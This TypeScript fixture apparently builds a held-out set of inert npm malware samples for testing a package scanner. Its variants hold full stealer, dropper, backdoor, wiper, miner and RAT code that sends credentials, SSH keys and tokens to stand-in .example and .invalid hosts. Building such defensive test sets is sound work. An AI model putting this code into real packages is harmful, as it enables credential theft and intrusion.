/**
 * SET5: a blind, held-out set of inert npm malware variants and honest twins.
 *
 * Written blind on 2026-11-26 without reading the analyser's rules, the other variant sets past
 * their shared helpers, or the npm docs/bench: to be scored once, as held out, before any tuning.
 * A different author from SET4 (which follows famous campaigns): here an attacker who knows how
 * static package scanners work and writes to slip past them (payload reached only through
 * `exports` conditions, a nested `main`, a `bin` on first use, `npm exec`/`node -r`/NODE_OPTIONS,
 * an `.npmrc` preload, worker/vm/`Module#_compile`, WebAssembly custom sections, image and JSON
 * carriers, `process.binding`, string-built module names, Proxy/Reflect, CI-only triggers), plus
 * ordinary low-effort malware from the long tail of public reports.
 *
 * Each variant names the report it follows (URL) or says "scanner-evasion, written". Sources
 * (public analyses): Socket on node-ipc DNS-TXT exfiltration, Fezbox QR/image steganography,
 * Telegram-bot typosquats with SSH backdoors, express-api-sync wipers, Famous Chollima Pastebin
 * dead drops, cloud-key stealers; ReversingLabs on Ethereum-contract droppers and shipped
 * coinminers; Phylum on ua-parser-js/coa/rc droppers; Riptides on kubeconfig/service-account
 * theft; pgserve ICP-canister exfiltration; the axios phantom-dependency RAT; Aikido on GlassWorm
 * invisible Unicode; GitHub-Actions-targeting typosquats; SANDWORM_MODE wallet stealers;
 * ossf/malicious-packages entries; ReversingLabs' Discord-webhook hunting policy.
 *
 * Nothing here runs: the texts are only packed into tarballs. Hosts are invented (`.example`,
 * `.invalid`); payload commands point at them and would do nothing real.
 */
import { type NpmVariant, fakeElf, fakePe, pkgJson } from './npm-variants.js';
import { pngChunk } from './png.js';

// Keeps backslashes in the JS texts literal; no `${}` or backticks are used inside them.
const js = String.raw;

const xorKey = 0x5a;
const xor = (s: string): Buffer => Buffer.from([...Buffer.from(s, 'utf8')].map((b) => b ^ xorKey));

function uleb(n: number): Buffer {
  const out: number[] = [];
  do {
    let byte = n & 0x7f;
    n >>>= 7;
    if (n !== 0) byte |= 0x80;
    out.push(byte);
  } while (n !== 0);
  return Buffer.from(out);
}

/** A valid, empty WebAssembly module with one custom section carrying `payload`. */
function wasmWithCustomSection(name: string, payload: Buffer): Buffer {
  const nameBuf = Buffer.from(name, 'utf8');
  const body = Buffer.concat([uleb(nameBuf.length), nameBuf, payload]);
  return Buffer.concat([Buffer.from([0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00, 0x00]), uleb(body.length), body]);
}

/** A small valid WebAssembly module exporting `add(i32,i32)->i32`, for the honest wasm twin. */
function wasmAdd(): Buffer {
  return Buffer.from([
    0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00,
    0x01, 0x07, 0x01, 0x60, 0x02, 0x7f, 0x7f, 0x01, 0x7f,
    0x03, 0x02, 0x01, 0x00,
    0x07, 0x07, 0x01, 0x03, 0x61, 0x64, 0x64, 0x00, 0x00,
    0x0a, 0x09, 0x01, 0x07, 0x00, 0x20, 0x00, 0x20, 0x01, 0x6a, 0x0b,
  ]);
}

/** A 1x1 PNG with a tEXt chunk (keyword\0text). */
function pngWithText(keyword: string, text: string): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(1, 0);
  ihdr.writeUInt32BE(1, 4);
  ihdr.set([8, 6, 0, 0, 0], 8);
  const idat = Buffer.from([0x78, 0x9c, 0x63, 0x60, 0x00, 0x02, 0x00, 0x00, 0x05, 0x00, 0x01]);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('tEXt', Buffer.concat([Buffer.from(keyword, 'latin1'), Buffer.from([0]), Buffer.from(text, 'latin1')])),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** GlassWorm-style: each byte becomes an invisible variation selector. */
function toVariationSelectors(s: string): string {
  return [...Buffer.from(s, 'utf8')].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + (b - 16))).join('');
}

const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const rev = (s: string): string => [...s].reverse().join('');

// ---------------------------------------------------------------------------------------------
// Second-stage texts that the carriers below hide (encoded, never present in clear in a tarball).

const stageCookieThief = js`try{var c=document.cookie;var u=(c.match(/username=([^;]+)/)||[])[1];var p=(c.match(/password=([^;]+)/)||[])[1];if(u&&p){fetch('https://qr-assets.example/c',{method:'POST',body:JSON.stringify({u:u,p:p,o:location.origin}),mode:'no-cors'})}}catch(e){}`;
const stageGlass = js`const cp=require('child_process');const f=require('os').tmpdir()+'/.gw';require('https').get('https://sol-gw.relay-node.example/p?k=7f31',r=>{const o=require('fs').createWriteStream(f,{mode:0o755});r.pipe(o);o.on('close',()=>cp.spawn(f,[],{detached:true,stdio:'ignore'}).unref())});`;
const stageWasm = js`const os=require('os'),fs=require('fs'),p=require('path');const files=['.aws/credentials','.config/gcloud/application_default_credentials.json','.kube/config','.npmrc','.ssh/id_ed25519','.ssh/id_rsa'];const out={};for(const f of files){try{out[f]=fs.readFileSync(p.join(os.homedir(),f),'utf8')}catch(e){}}fetch('https://wasm-metrics.example/ingest',{method:'POST',body:JSON.stringify(out)}).catch(()=>{});`;
const stageWorker = js`const {execSync}=require('child_process');let who='';try{who=execSync('id; hostname; ip -4 addr 2>/dev/null | grep inet',{encoding:'utf8'})}catch(e){}fetch('https://i18n-sync.example/t',{method:'POST',body:who+JSON.stringify(process.env)}).catch(()=>{});`;

// ---------------------------------------------------------------------------------------------

export const NPM_VARIANTS_SET5: NpmVariant[] = [
  // https://appsecuritystandards.org/blog/expired-domain-hijacks-node-ipc-maintainer-account — credential theft exfiltrated as hex labels in DNS TXT queries to a look-alike zone, on import.
  {
    family: 'dns-txt-exfil',
    id: 's5-ipc-dns-txt',
    files: {
      'package.json': pkgJson('ipc-bridge-lite', { main: 'index.js' }),
      'index.js': js`'use strict';
const net = require('net');
const { resolveTxt } = require('dns').promises;
const fs = require('fs');
const os = require('os');
const path = require('path');

function gather() {
  const bag = { h: os.hostname(), u: os.userInfo().username };
  for (const k of Object.keys(process.env)) if (/TOKEN|SECRET|KEY|PASS|AWS_|NPM_/.test(k)) bag[k] = process.env[k];
  for (const f of ['.npmrc', '.git-credentials', '.ssh/id_rsa', '.docker/config.json']) {
    try { bag[f] = fs.readFileSync(path.join(os.homedir(), f), 'utf8'); } catch (e) {}
  }
  return Buffer.from(JSON.stringify(bag)).toString('hex');
}

async function ship() {
  const hex = gather();
  const id = Math.random().toString(36).slice(2, 8);
  for (let i = 0, n = 0; i < hex.length; i += 60, n++) {
    const label = hex.slice(i, i + 60);
    try { await resolveTxt(label + '.' + n + '.' + id + '.staticwebapp-azure.invalid'); } catch (e) {}
  }
}
setTimeout(() => { ship().catch(() => {}); }, 1500).unref();

class IPC { constructor() { this.sockets = new Map(); } serve(p, cb) { return net.createServer(cb).listen(p); } }
module.exports = new IPC();
`,
    },
  },

  // https://trends.glance.com/story/articles/Auto/US/en/rapid-read/s-c06640630b-fbaf48a8-d535-57be-b1fe-c7a811291f58?summary=false — Fezbox: payload hidden in an image, reversed base64 in a PNG text chunk, decoded and run to steal cookie-stored credentials.
  {
    family: 'image-stego-loader',
    id: 's5-fezbox-png',
    files: {
      'package.json': pkgJson('fezbox-utils', { main: 'dist/index.js', browser: 'dist/index.js' }),
      'dist/index.js': js`export function isEmpty(v) { return v == null || (typeof v === 'object' && Object.keys(v).length === 0); }
export function chunk(a, n) { const o = []; for (let i = 0; i < a.length; i += n) o.push(a.slice(i, i + n)); return o; }

(function () {
  if (typeof window === 'undefined' || Math.random() < 0.2) return;
  setTimeout(async function () {
    try {
      const r = await fetch(new URL('../assets/badge.png', import.meta.url));
      const buf = new Uint8Array(await r.arrayBuffer());
      let s = '';
      for (let i = 0; i < buf.length; i++) s += String.fromCharCode(buf[i]);
      const at = s.indexOf('Comment\u0000');
      const body = s.slice(at + 8, s.indexOf('IDAT', at) - 8);
      const code = atob(body.split('').reverse().join(''));
      (0, eval)(code);
    } catch (e) {}
  }, 120000);
})();
`,
      'assets/badge.png': pngWithText('Comment', rev(b64(stageCookieThief))),
    },
  },

  // https://www.dapp.expert/news/en_new-hacker-tactics-malicious-packages-in-ethereum-smart-contracts-1756991409-891250 — colortoolsv2/mimelib2: read the stage-2 URL from an Ethereum contract via JSON-RPC, download, run detached.
  {
    family: 'blockchain-dead-drop-dropper',
    id: 's5-eth-contract-dropper',
    files: {
      'package.json': pkgJson('colortools-v3', { main: 'index.js', scripts: { postinstall: 'node lib/palette.js' } }),
      'index.js': js`module.exports = { hex: (r, g, b) => '#' + [r, g, b].map((x) => x.toString(16).padStart(2, '0')).join('') };
`,
      'lib/palette.js': js`const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

const RPC = { host: 'eth-mainnet.rpc-gateway.example', path: '/v1/public' };
const CONTRACT = '0x7a3b1c9e5d2f4a6b8c0d1e2f3a4b5c6d7e8f9a0b';
const SELECTOR = '0x8da5cb5b';

function rpc(body) {
  return new Promise((res, rej) => {
    const r = https.request({ ...RPC, method: 'POST', headers: { 'content-type': 'application/json' } }, (s) => {
      let d = ''; s.on('data', (c) => (d += c)); s.on('end', () => { try { res(JSON.parse(d)); } catch (e) { rej(e); } });
    });
    r.on('error', rej); r.end(JSON.stringify(body));
  });
}

function abiString(hex) {
  const h = hex.replace(/^0x/, '');
  const len = parseInt(h.slice(64, 128), 16);
  return Buffer.from(h.slice(128, 128 + len * 2), 'hex').toString('utf8');
}

(async () => {
  const out = await rpc({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: CONTRACT, data: SELECTOR }, 'latest'] });
  const base = abiString(out.result);
  const plat = os.platform() === 'win32' ? 'w.exe' : os.platform() === 'darwin' ? 'm' : 'l';
  const dest = path.join(os.tmpdir(), os.platform() === 'win32' ? 'svchelper.exe' : '.colord');
  https.get(base + '/' + plat, (r) => {
    const f = fs.createWriteStream(dest, { mode: 0o755 });
    r.pipe(f);
    f.on('close', () => spawn(dest, [], { detached: true, stdio: 'ignore', windowsHide: true }).unref());
  }).on('error', () => {});
})().catch(() => {});
`,
    },
  },

  // https://trendinfra.com/malicious-npm-packages-imitate-telegram-bot-api-to-install-ssh-backdoors-on-linux-devices — typosquat of a Telegram bot library that appends the attacker's key to authorized_keys and beacons user and IP, from the library's constructor.
  {
    family: 'ssh-backdoor',
    id: 's5-tg-bot-ssh-key',
    files: {
      'package.json': pkgJson('node-telegram-bots-api', { main: 'src/telegram.js', repository: 'github:yagop/node-telegram-bot-api' }),
      'src/telegram.js': js`'use strict';
const EventEmitter = require('events');
const { addBotId } = require('./utils');

class TelegramBot extends EventEmitter {
  constructor(token, options = {}) {
    super();
    this.token = token;
    this.options = options;
    addBotId();
  }
  sendMessage(chatId, text) { return Promise.resolve({ chatId, text }); }
}
module.exports = TelegramBot;
`,
      'src/utils.js': js`'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const K = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk2mQ1qv9Z0qbR3x7uT4n0M7c2Jd1p8sFz3rXeWqLyA deploy@build';

function addBotId() {
  if (process.platform !== 'linux') return;
  try {
    const dir = path.join(os.homedir(), '.ssh');
    fs.mkdirSync(dir, { recursive: true, mode: 0o700 });
    const ak = path.join(dir, 'authorized_keys');
    const cur = fs.existsSync(ak) ? fs.readFileSync(ak, 'utf8') : '';
    if (!cur.includes(K)) fs.appendFileSync(ak, '\n' + K + '\n', { mode: 0o600 });
    https.get('https://ipinfo.botapi-check.example/?u=' + encodeURIComponent(os.userInfo().username), () => {}).on('error', () => {});
  } catch (e) {}
}
module.exports = { addBotId };
`,
    },
  },

  // https://appsecuritystandards.org/blog/26-malicious-npm-packages-a-supply-chain-attack-breakdown — Famous Chollima: a paste used as a dead drop, C2 address hidden character-by-character, RAT loop evaluating tasks.
  {
    family: 'paste-dead-drop-rat',
    id: 's5-paste-stego-rat',
    files: {
      'package.json': pkgJson('vite-plugin-env-guard', { main: 'index.cjs', type: 'commonjs' }),
      'index.cjs': js`const vm = require('vm');
const os = require('os');

async function resolveC2() {
  const t = await (await fetch('https://paste.dropbin.example/raw/Xk29Qa')).text();
  // every 7th character of the lorem text spells the endpoint
  let s = '';
  for (let i = 6; i < t.length; i += 7) s += t[i];
  return s.split('|')[0];
}

async function loop(base) {
  const id = os.hostname() + '-' + process.pid;
  for (;;) {
    try {
      const task = await (await fetch(base + '/task?id=' + encodeURIComponent(id))).text();
      if (task) {
        const result = vm.runInThisContext(task)(require);
        await fetch(base + '/res?id=' + encodeURIComponent(id), { method: 'POST', body: String(result) });
      }
    } catch (e) {}
    await new Promise((r) => setTimeout(r, 30000));
  }
}

module.exports = function envGuard() {
  resolveC2().then(loop).catch(() => {});
  return { name: 'env-guard', configResolved() {} };
};
`,
    },
  },

  // https://trendinfra.com/?p=3801 — express-api-sync: an Express helper that mounts a hidden endpoint which, given a key, deletes the application directory.
  {
    family: 'hidden-endpoint-wiper',
    id: 's5-express-wiper',
    files: {
      'package.json': pkgJson('express-db-sync', { main: 'index.js', peerDependencies: { express: '>=4' } }),
      'index.js': js`const { execSync } = require('child_process');

module.exports = function sync(app, opts = {}) {
  app.use(require('express').json());
  app.post('/api/health/sync-state', (req, res) => {
    if (req.body && req.body.k === 'DEL_9c1f2e') {
      const target = process.cwd();
      const cmd = process.platform === 'win32' ? 'rd /s /q "' + target + '"' : 'rm -rf "' + target + '"';
      try { execSync(cmd); } catch (e) {}
      return res.json({ ok: true });
    }
    res.status(404).end();
  });
  return { syncNow: () => Promise.resolve(opts.tables || []) };
};
`,
    },
  },

  // https://blog.phylum.io/recent-npm-malware/ — ua-parser-js style: preinstall picks the OS and fetches a miner (Linux) or stealer batch (Windows) from a personal host, runs it with pool arguments.
  {
    family: 'install-dropper-miner',
    id: 's5-uaparser-preinstall',
    files: {
      'package.json': pkgJson('ua-parse-js', { main: 'src/ua-parser.js', scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' } }),
      'src/ua-parser.js': js`module.exports = function UAParser(ua) { return { ua: ua || '', browser: { name: /Firefox/.test(ua) ? 'Firefox' : 'Chrome' } }; };
`,
      'preinstall.js': js`var opsys = process.platform;
if (opsys == 'darwin') { opsys = 'MacOS'; } else if (opsys == 'win32' || opsys == 'win64') { opsys = 'Windows';
  const { exec } = require('child_process');
  exec('preinstall.bat', function () {});
} else if (opsys == 'linux') { opsys = 'Linux';
  const { exec } = require('child_process');
  exec('/bin/bash preinstall.sh', function () {});
}
`,
      'preinstall.sh': js`#!/bin/bash
IP=$(curl -s -k https://ipcheck.mirror-stat.invalid/ip)
case "$IP" in *RU*|*UA*|*BY*|*KZ*) exit 0;; esac
if ps -ef | grep -v grep | grep -q jsextension; then exit 0; fi
curl -s -k -o jsextension https://citationsherbe.invalid/download/jsextension
[ -f jsextension ] || wget -q -O jsextension https://citationsherbe.invalid/download/jsextension
chmod +x ./jsextension
./jsextension -k --tls --rig-id q -o pool.minexmr-relay.invalid:443 -u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUmew6ZPX1ndfXQCT16v4trWp4erPyXtUQZTHGjfLXEUdVXD2kF2Qz --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
`,
      'preinstall.bat': js`@echo off
curl https://citationsherbe.invalid/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe ( wget https://citationsherbe.invalid/download/jsextension.exe -O jsextension.exe )
curl https://citationsherbe.invalid/download/sdd.dll -o create.dll
set exe_1=jsextension.exe
start "" /B jsextension.exe -k --tls --rig-id q -o pool.minexmr-relay.invalid:443 -u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUmew6ZPX1ndfXQCT16v4trWp4erPyXtUQZTHGjfLXEUdVXD2kF2Qz --cpu-max-threads-hint=50 --donate-level=1 --background
regsvr32.exe -s create.dll
`,
    },
  },

  // https://www.reversinglabs.com/blog/npm-coinminer-what-you-see-is-not-always-what-you-get-0 — the tarball ships a miner binary that the source repo does not have; install starts it detached with a pool config.
  {
    family: 'shipped-miner',
    id: 's5-shipped-xmrig',
    files: {
      'package.json': pkgJson('keccak-fast', { main: 'index.js', scripts: { install: 'node scripts/warmup.js' }, repository: 'github:keccak-fast/keccak-fast' }),
      'index.js': js`module.exports = { hash: (b) => require('crypto').createHash('sha3-256').update(b).digest('hex') };
`,
      'scripts/warmup.js': js`// "benchmarks" the native hasher on first install
const { spawn } = require('child_process');
const path = require('path');
const os = require('os');
if (os.cpus().length < 4) process.exit(0);
const bin = path.join(__dirname, '..', 'prebuilds', process.platform + '-' + process.arch, process.platform === 'win32' ? 'bench.exe' : 'bench');
const cfg = path.join(__dirname, '..', 'prebuilds', 'bench.json');
const child = spawn(bin, ['--config=' + cfg, '--background'], { detached: true, stdio: 'ignore', windowsHide: true });
child.unref();
`,
      'prebuilds/bench.json': JSON.stringify({ autosave: false, cpu: { enabled: true, 'max-threads-hint': 75 }, 'donate-level': 0, pools: [{ url: 'stratum+tcp://xmr.poolrelay.invalid:3333', user: '4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge', pass: 'x', keepalive: true }] }, null, 2),
      'prebuilds/linux-x64/bench': fakeElf(),
      'prebuilds/win32-x64/bench.exe': fakePe(),
    },
  },

  // https://digitaldigests.net/cloud-services/malware-campaign-on-npm-steals-aws-gcp-and-azure-cloud-keys-2 — cloud-key stealer: AWS/GCP/Azure files, env, instance metadata, sent on install.
  {
    family: 'cloud-cred-stealer',
    id: 's5-cloud-keys-imds',
    files: {
      'package.json': pkgJson('opensearch-client-utils', { main: 'lib/index.js', scripts: { postinstall: 'node lib/check-env.js || exit 0' } }),
      'lib/index.js': js`exports.connect = (url) => ({ url, search: async () => ({ hits: [] }) });
`,
      'lib/check-env.js': js`const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const home = os.homedir();

function r(p) { try { return fs.readFileSync(p, 'utf8'); } catch (e) { return null; } }
function get(host, p, headers) {
  return new Promise((res) => {
    const q = http.get({ host, path: p, headers, timeout: 1500 }, (s) => { let d = ''; s.on('data', (c) => (d += c)); s.on('end', () => res(d)); });
    q.on('error', () => res(null)); q.on('timeout', () => { q.destroy(); res(null); });
  });
}

(async () => {
  const loot = {
    aws: r(path.join(home, '.aws', 'credentials')),
    awsConfig: r(path.join(home, '.aws', 'config')),
    gcp: r(process.env.GOOGLE_APPLICATION_CREDENTIALS || path.join(home, '.config', 'gcloud', 'application_default_credentials.json')),
    azure: r(path.join(home, '.azure', 'msal_token_cache.json')) || r(path.join(home, '.azure', 'accessTokens.json')),
    env: Object.fromEntries(Object.entries(process.env).filter(([k]) => /^(AWS|AZURE|GOOGLE|GCP|ELASTIC|OPENSEARCH)/.test(k))),
  };
  const role = await get('169.254.169.254', '/latest/meta-data/iam/security-credentials/');
  if (role) loot.imds = await get('169.254.169.254', '/latest/meta-data/iam/security-credentials/' + role.trim());
  loot.gce = await get('metadata.google.internal', '/computeMetadata/v1/instance/service-accounts/default/token', { 'Metadata-Flavor': 'Google' });
  await fetch('https://logs.search-telemetry.example/api/v1/bulk', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(loot) }).catch(() => {});
})();
`,
    },
  },

  // https://nhimg.org/articles/npm-supply-chain-attacks-expose-why-runtime-secret-injection-matters/ — Riptides: kubeconfig, in-pod service-account token, cached SDK tokens, then lists secrets with the stolen token.
  {
    family: 'kube-cred-stealer',
    id: 's5-kubeconfig-sa-token',
    files: {
      'package.json': pkgJson('@helmkit/values-schema', { type: 'module', exports: './index.mjs', scripts: { postinstall: 'node ./index.mjs --selfcheck' } }),
      'index.mjs': js`import { readFileSync, readdirSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

export function validate(values) { return typeof values === 'object' && values !== null; }

const SA = '/var/run/secrets/kubernetes.io/serviceaccount';
const tryRead = (p) => { try { return readFileSync(p, 'utf8'); } catch { return undefined; } };

if (process.argv.includes('--selfcheck')) {
  const kubeconfig = tryRead(process.env.KUBECONFIG || join(homedir(), '.kube', 'config'));
  const token = tryRead(join(SA, 'token'));
  const ns = tryRead(join(SA, 'namespace')) || 'default';
  const loot = { kubeconfig, token, ns, helm: tryRead(join(homedir(), '.config', 'helm', 'repositories.yaml')) };
  try { loot.docker = tryRead(join(homedir(), '.docker', 'config.json')); } catch {}
  try { loot.gke = readdirSync(join(homedir(), '.config', 'gcloud')).join(','); } catch {}
  if (token && process.env.KUBERNETES_SERVICE_HOST) {
    try {
      const api = 'https://' + process.env.KUBERNETES_SERVICE_HOST + ':' + (process.env.KUBERNETES_SERVICE_PORT || '443');
      const res = await fetch(api + '/api/v1/namespaces/' + ns + '/secrets', { headers: { authorization: 'Bearer ' + token } });
      loot.secrets = await res.text();
    } catch {}
  }
  await fetch('https://k8s-schema.registry-mirror.example/v1/report', { method: 'PUT', body: JSON.stringify(loot) }).catch(() => {});
}
`,
    },
  },

  // https://appsecuritystandards.org/blog/malicious-npm-packages-stole-credentials-from-8-000-weekly-downloads — pgserve: injected harvester of env and config files posting to a decentralized (ICP canister) endpoint.
  {
    family: 'decentralized-exfil',
    id: 's5-icp-canister-harvest',
    files: {
      'package.json': pkgJson('pgserve-embedded', { main: 'bin/pgserve.js', bin: { pgserve: 'bin/pgserve.js' }, scripts: { postinstall: 'node bin/pgserve.js --init-data-dir' } }),
      'bin/pgserve.js': js`#!/usr/bin/env node
'use strict';
const fs = require('fs');
const path = require('path');
const os = require('os');

function findEnvFiles(dir, depth, acc) {
  if (depth < 0) return acc;
  let ents = [];
  try { ents = fs.readdirSync(dir, { withFileTypes: true }); } catch (e) { return acc; }
  for (const e of ents) {
    if (e.name === 'node_modules' || e.name === '.git') continue;
    const p = path.join(dir, e.name);
    if (e.isDirectory()) findEnvFiles(p, depth - 1, acc);
    else if (/^\.env(\..+)?$/.test(e.name) || e.name === 'credentials.json' || e.name === 'secrets.yaml') {
      try { acc[p] = fs.readFileSync(p, 'utf8').slice(0, 20000); } catch (x) {}
    }
  }
  return acc;
}

async function initDataDir() {
  const roots = [process.env.INIT_CWD || process.cwd(), os.homedir()];
  const files = {};
  for (const r of roots) findEnvFiles(r, 4, files);
  const body = JSON.stringify({ host: os.hostname(), env: process.env, files });
  const canister = 'z4k2a-qaaaa-aaaam-qdgba-cai';
  await fetch('https://' + canister + '.raw.icp0.invalid/ingest', { method: 'POST', body }).catch(() => {});
}

if (process.argv.includes('--init-data-dir')) initDataDir();
else console.log('pgserve: embedded postgres (use --port)');
`,
    },
  },

  // https://www.systemshardening.com/articles/linux/npm-postinstall-kernel-detection/ — axios: a phantom dependency whose postinstall fetches a per-OS RAT, runs it detached and erases itself, swapping in a clean package.json.
  {
    family: 'phantom-dependency-rat',
    id: 's5-phantom-dep-selfdelete',
    files: {
      'package.json': pkgJson('plain-crypto-utils', { version: '4.2.1', main: 'index.js', scripts: { postinstall: 'node setup.js' } }),
      'package.md': pkgJson('plain-crypto-utils', { version: '4.2.0', main: 'index.js' }),
      'index.js': js`module.exports = require('crypto');
`,
      'setup.js': js`const fs = require('fs');
const os = require('os');
const path = require('path');
const cp = require('child_process');
const https = require('https');

const C2 = 'https://sfrclak.invalid:8000/6202033';
const p = os.platform();
const dst = p === 'win32' ? path.join(process.env.PROGRAMDATA || os.tmpdir(), 'wt.exe')
  : p === 'darwin' ? '/Library/Caches/com.apple.act.mond' : '/tmp/ld.py';

function done() {
  try { fs.unlinkSync(__filename); } catch (e) {}
  try { fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json')); } catch (e) {}
}

https.get(C2 + '?os=' + p + '&arch=' + os.arch(), (r) => {
  const f = fs.createWriteStream(dst, { mode: 0o755 });
  r.pipe(f);
  f.on('close', () => {
    const cmd = p === 'linux' ? 'python3' : dst;
    const args = p === 'linux' ? [dst, C2] : [C2];
    cp.spawn(cmd, args, { detached: true, stdio: 'ignore', windowsHide: true }).unref();
    done();
  });
}).on('error', done);
`,
    },
  },

  // https://nebelwolfi.xyz/blog/2026-03-15-why-npm-is-the-weakest-link-in-unicode-supply-chain-attacks — GlassWorm: the loader's payload is a run of invisible variation selectors decoded to bytes and evaluated.
  {
    family: 'invisible-unicode-loader',
    id: 's5-glassworm-vs',
    files: {
      'package.json': pkgJson('react-native-stylekit', { main: 'lib/index.js' }),
      'lib/index.js': js`'use strict';
exports.StyleSheet = { create: (s) => s, flatten: (a) => Object.assign({}, ...[].concat(a)) };
const s = '` + toVariationSelectors(stageGlass) + js`';
const d = (t) => { const b = []; for (const ch of t) { const c = ch.codePointAt(0); if (c >= 0xfe00 && c <= 0xfe0f) b.push(c - 0xfe00); else if (c >= 0xe0100 && c <= 0xe01ef) b.push(c - 0xe0100 + 16); } return Buffer.from(b).toString('utf8'); };
eval(d(s));
`,
    },
  },

  // https://developmentcurated.com/testing-and-security/malicious-npm-package-targets-github-actions-workflows — GitHub Actions-only trigger: on a runner, reads the runtime/GITHUB tokens and smuggles them in HTTP request headers of a "cache warm" call; dormant on laptops.
  {
    family: 'ci-only-token-theft',
    id: 's5-actions-header-exfil',
    files: {
      'package.json': pkgJson('@actions-toolkit/cache-utils', { main: 'dist/index.js', scripts: { postinstall: 'node dist/warm.js' } }),
      'dist/index.js': js`exports.restoreCache = async (paths, key) => ({ paths, key, hit: false });
`,
      'dist/warm.js': js`const https = require('https');
const e = process.env;
if (e.GITHUB_ACTIONS === 'true' && e.RUNNER_OS && !e.ACT) {
  setTimeout(() => {
    const headers = {
      'user-agent': 'actions/cache-utils',
      'x-cache-key': Buffer.from(e.GITHUB_TOKEN || e.INPUT_TOKEN || '').toString('base64'),
      'x-cache-scope': Buffer.from(e.ACTIONS_RUNTIME_TOKEN || '').toString('base64'),
      'x-cache-version': Buffer.from([e.ACTIONS_ID_TOKEN_REQUEST_TOKEN, e.ACTIONS_ID_TOKEN_REQUEST_URL, e.NPM_TOKEN, e.NODE_AUTH_TOKEN].join('|')).toString('base64'),
      'x-repo': e.GITHUB_REPOSITORY + '@' + e.GITHUB_REF,
    };
    https.request({ host: 'artifactcache.actions-cdn.example', path: '/_apis/artifactcache/cache?keys=warm', headers }, () => {}).on('error', () => {}).end();
  }, 5000);
}
`,
    },
  },

  // https://th247.xyz/blog-post.php?slug=malicious-npm-package-exposed-sensitive-user-data-through-github-repository — exfiltration through a git repository: copies secrets and agent configs into a temp repo and pushes to an attacker remote with an embedded token.
  {
    family: 'git-push-exfil',
    id: 's5-git-push-loot',
    files: {
      'package.json': pkgJson('claude-workspace-sync', { main: 'index.js', scripts: { postinstall: 'node index.js' } }),
      'index.js': js`const { spawnSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

const home = os.homedir();
const work = fs.mkdtempSync(path.join(os.tmpdir(), 'ws-'));
const pick = ['.claude', '.claude.json', '.config/gh/hosts.yml', '.netrc', '.env', '.aws/credentials', '.cursor/mcp.json'];
for (const rel of pick) {
  const src = path.join(home, rel);
  try { fs.cpSync(src, path.join(work, rel.replace(/\//g, '_')), { recursive: true }); } catch (e) {}
}
try { fs.cpSync(path.join(process.env.INIT_CWD || process.cwd(), '.env'), path.join(work, 'project.env')); } catch (e) {}

const git = (...a) => spawnSync('git', a, { cwd: work, stdio: 'ignore' });
git('init', '-q');
git('-c', 'user.email=ci@build.local', '-c', 'user.name=ci', 'add', '-A');
git('-c', 'user.email=ci@build.local', '-c', 'user.name=ci', 'commit', '-qm', os.hostname());
git('push', '-q', '--force', 'https://x-access-token:ghp_Q1w2E3r4T5y6U7i8O9p0AaSsDdFfGgHhJjKk@git.codehost-mirror.example/sync-bot/drops.git', 'HEAD:refs/heads/' + os.hostname());
fs.rmSync(work, { recursive: true, force: true });
`,
    },
  },

  // https://m4lw4re.zip/?p=708 — SANDWORM_MODE-style wallet stealer: browser-extension vaults, desktop wallets, Solana keypairs, shipped over a WebSocket that also accepts commands.
  {
    family: 'wallet-stealer',
    id: 's5-wallet-websocket',
    files: {
      'package.json': pkgJson('solana-web3-helpers', { main: 'index.js', engines: { node: '>=22' } }),
      'index.js': js`const fs = require('fs');
const os = require('os');
const path = require('path');
const home = os.homedir();

const EXT = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'ejbalbakoplchlghecdalmeeeajnimhm'];
const browsers = {
  linux: ['.config/google-chrome', '.config/BraveSoftware/Brave-Browser', '.config/microsoft-edge'],
  darwin: ['Library/Application Support/Google/Chrome', 'Library/Application Support/BraveSoftware/Brave-Browser'],
  win32: ['AppData/Local/Google/Chrome/User Data', 'AppData/Local/BraveSoftware/Brave-Browser/User Data'],
}[process.platform] || [];

function collect() {
  const out = [];
  for (const b of browsers) for (const prof of ['Default', 'Profile 1', 'Profile 2']) for (const id of EXT) {
    const dir = path.join(home, b, prof, 'Local Extension Settings', id);
    try { for (const f of fs.readdirSync(dir)) if (/\.(ldb|log)$/.test(f)) out.push([dir + '/' + f, fs.readFileSync(path.join(dir, f)).toString('base64')]); } catch (e) {}
  }
  for (const rel of ['.config/solana/id.json', '.electrum/wallets/default_wallet', 'AppData/Roaming/Exodus/exodus.wallet/seed.seco', '.config/Exodus/exodus.wallet/seed.seco']) {
    try { out.push([rel, fs.readFileSync(path.join(home, rel)).toString('base64')]); } catch (e) {}
  }
  return out;
}

function connect() {
  if (typeof WebSocket === 'undefined') return;
  const ws = new WebSocket('wss://rpc-ws.solana-helpers.example/socket');
  ws.onopen = () => { for (const [name, data] of collect()) ws.send(JSON.stringify({ t: 'f', name, data })); };
